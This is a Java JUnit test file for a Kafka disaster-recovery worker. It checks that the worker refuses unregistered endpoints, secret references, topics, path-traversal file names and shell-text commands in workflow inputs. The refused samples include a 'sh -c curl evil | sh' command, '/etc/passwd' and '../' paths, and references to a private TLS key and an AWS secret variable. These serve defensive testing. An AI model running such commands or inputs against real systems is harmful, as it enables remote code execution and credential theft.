package io.kafkadr.activities.pair;

import static io.kafkadr.activities.TestAsserts.assertContains;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.kafkadr.workflows.clients.ClientRef;
import io.kafkadr.workflows.common.ActivityFailures;
import io.kafkadr.workflows.drpair.ReplicationRecord;
import io.kafkadr.workflows.pair.ClientBinding;
import io.kafkadr.workflows.pair.ClusterConfig;
import io.kafkadr.workflows.pair.ConnectAuth;
import io.kafkadr.workflows.pair.ConnectTls;
import io.kafkadr.workflows.pair.Direction;
import io.kafkadr.workflows.pair.PairConfig;
import io.kafkadr.workflows.pair.PairConfigException;
import io.kafkadr.workflows.pair.PairRegistry;
import io.temporal.failure.ApplicationFailure;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The worker's side of the trust boundary, on real pair files: what it serves, what it refuses in
 * an activity's arguments, which pair files a workflow input may name.
 */
class ServedPairsTest {

    private static final String PAIR = String.join("\n",
            "name: shop",
            "primary: a",
            "secondary: b",
            "clusters:",
            "  - {alias: a, bootstrapServers: 'a:9092', connectUrl: 'http://a:8083'}",
            "  - {alias: b, bootstrapServers: 'b:9092', connectUrl: 'http://b:8083'}",
            "topics: {names: [orders, payments]}",
            "consumerGroups:",
            "  - group: billing",
            "    binding:",
            "      type: process",
            "      commands:",
            "        stop: [./apps/billing, stop]",
            "        start: [./apps/billing, start, --bootstrap, '{bootstrap}']",
            "");

    @TempDir
    Path base;
    private Path registered;
    private Path samples;
    private ServedPairs served;

    @BeforeEach
    void registry() throws Exception {
        registered = base.resolve(".local/pairs");
        samples = Files.createDirectories(base.resolve("pairs"));
        served = new ServedPairs(PairRegistry.of(".local/pairs:pairs", base));
        served.registry().register(Files.writeString(base.resolve("shop.yaml"), PAIR));
    }

    private PairConfig shop() {
        return served.registered("shop");
    }

    private static ApplicationFailure refused(Runnable call) {
        ApplicationFailure failure = assertThrows(ApplicationFailure.class, call::run);
        assertEquals(ActivityFailures.NOT_SERVED, failure.getType());
        assertTrue(failure.isNonRetryable());
        return failure;
    }

    @Test
    void registeringCopiesTheFileIntoTheFirstFolder() {
        assertTrue(Files.exists(registered.resolve("shop.yaml")));
        assertEquals(List.of("orders", "payments"), shop().topics().names());
    }

    @Test
    void theSamePairAndANarrowerOneAreServed() {
        served.check(shop());
        served.check(shop().withClients(List.of(), List.of()).withTopicNames(List.of("orders")));
        served.check(PairConfig.named("shop"));
    }

    @Test
    void anotherEndpointIsRefusedNamingTheFieldAndHowToRegister() {
        PairConfig moved = withCluster(shop(), new ClusterConfig("a", "evil:9092", null, "http://a:8083", null));

        String message = refused(() -> served.check(moved)).getOriginalMessage();

        assertContains(message, "clusters[a].bootstrapServers: 'evil:9092' instead of the registered 'a:9092'");
        assertContains(message, "drctl pair register <file>");
    }

    @Test
    void anotherConnectLoginOrCaIsRefused() {
        PairConfig login = withCluster(shop(), new ClusterConfig("b", "b:9092", null, "http://b:8083", null,
                new ConnectTls("/etc/ssl/private/key.pem"), new ConnectAuth("env:AWS_SECRET_ACCESS_KEY")));

        String message = refused(() -> served.check(login)).getOriginalMessage();

        assertContains(message, "clusters[b].connectTls.caFile: '/etc/ssl/private/key.pem' instead of the registered (none)");
        assertContains(message, "clusters[b].connectAuth.secretRef: 'env:AWS_SECRET_ACCESS_KEY' instead of the registered (none)");
    }

    @Test
    void anotherTopicIsRefused() {
        String message = refused(() -> served.check(shop().withTopicNames(List.of("orders", "users"))))
                .getOriginalMessage();

        assertContains(message, "topics.names: 'users' is not one of the registered pair's topics");
    }

    @Test
    void aClientWithAnotherCommandIsRefusedByTheInterceptor() {
        ServedPairsInterceptor interceptor = new ServedPairsInterceptor(served);
        ClientRef billing = new ClientRef(ClientRef.CONSUMER, "billing", ClientBinding.process(
                List.of("sh", "-c", "curl evil | sh"), List.of("true")));

        String message = refused(() -> interceptor.check(new Object[] {shop().withoutClients(), billing, "primary"}))
                .getOriginalMessage();

        assertContains(message, "consumer billing binding.commands.stop: [sh, -c, curl evil | sh] instead of the "
                + "registered [./apps/billing, stop]");
    }

    @Test
    void theRegisteredClientAndListsOfThemPass() {
        ServedPairsInterceptor interceptor = new ServedPairsInterceptor(served);
        ClientRef billing = ClientRef.of(shop().consumerGroups().get(0));

        interceptor.check(new Object[] {shop().withoutClients(), List.of(billing), "primary"});
    }

    @Test
    void aSignalledReplicationRecordWithAnotherConnectUrlIsRefused() {
        PairConfig elsewhere = withCluster(shop(), new ClusterConfig("b", "b:9092", null, "http://collector:8083", null));

        String message = refused(() -> new ServedPairsInterceptor(served).check(new Object[] {
                new ReplicationRecord(elsewhere, Direction.primaryToSecondary(elsewhere))})).getOriginalMessage();

        assertContains(message, "clusters[b].connectUrl: 'http://collector:8083' instead of the registered 'http://b:8083'");
    }

    @Test
    void aPairNotServedNamesWhatIsServed() {
        String message = refused(() -> served.registered("other")).getOriginalMessage();

        assertContains(message, "pair 'other' is not served by this worker");
        assertContains(message, "the pairs [shop]");
        assertContains(message, "drctl pair register <file>");
    }

    @Test
    void theFirstFolderWins() throws Exception {
        Files.writeString(samples.resolve("shop.yaml"), PAIR.replace("a:9092", "sample:9092"));

        assertEquals("a:9092", shop().primaryCluster().bootstrapServers());
    }

    @Test
    void aPairFileOutsideThePairsFoldersIsRefused() throws Exception {
        Files.writeString(samples.resolve("kept.yaml"), PAIR.replace("name: shop", "name: kept"));
        Files.writeString(base.resolve("stray.yaml"), PAIR.replace("name: shop", "name: stray"));
        PairActivitiesImpl activities = new PairActivitiesImpl(base, served);

        assertEquals("kept", activities.loadPair("pairs/kept.yaml").name());
        String message = refused(() -> activities.loadPair("stray.yaml")).getOriginalMessage();
        assertContains(message, "pairFile 'stray.yaml' is not in this worker's pairs folders");
        assertContains(message, "drctl pair register stray.yaml");
        refused(() -> activities.loadPair("pairs/../stray.yaml"));
        refused(() -> activities.loadPair("/etc/passwd"));
    }

    @Test
    void aShellCommandIsRefusedWhenThePairIsRegistered() throws Exception {
        Path old = Files.writeString(base.resolve("old.yaml"), PAIR.replace("name: shop", "name: old")
                .replace("      commands:\n        stop: [./apps/billing, stop]\n"
                        + "        start: [./apps/billing, start, --bootstrap, '{bootstrap}']",
                        "      settings:\n        stop: FOO=1 ./apps/billing stop && sleep 1\n"
                        + "        start: ./apps/billing start --bootstrap {bootstrap}"));

        PairConfigException e = assertThrows(PairConfigException.class, () -> served.registry().register(old));

        assertContains(e.getMessage(), "consumerGroups[0].binding.settings.stop: a command is no longer shell text");
        assertContains(e.getMessage(), "e.g. [env, FOO=1, ./apps/billing, stop, '&&', sleep, 1]");
        assertContains(e.getMessage(), "[./apps/billing, start, --bootstrap, '{bootstrap}']");
        assertTrue(Files.notExists(registered.resolve("old.yaml")));
    }

    private static PairConfig withCluster(PairConfig pair, ClusterConfig changed) {
        return new PairConfig(pair.name(), pair.primary(), pair.secondary(), pair.clusters().stream()
                .map(c -> c.alias().equals(changed.alias()) ? changed : c).toList(), pair.topics(), pair.consumerGroups(),
                pair.producers(), pair.replication(), pair.thresholds(), pair.failoverRequiresApproval(), pair.failover(),
                pair.objectives(), pair.drill());
    }

}
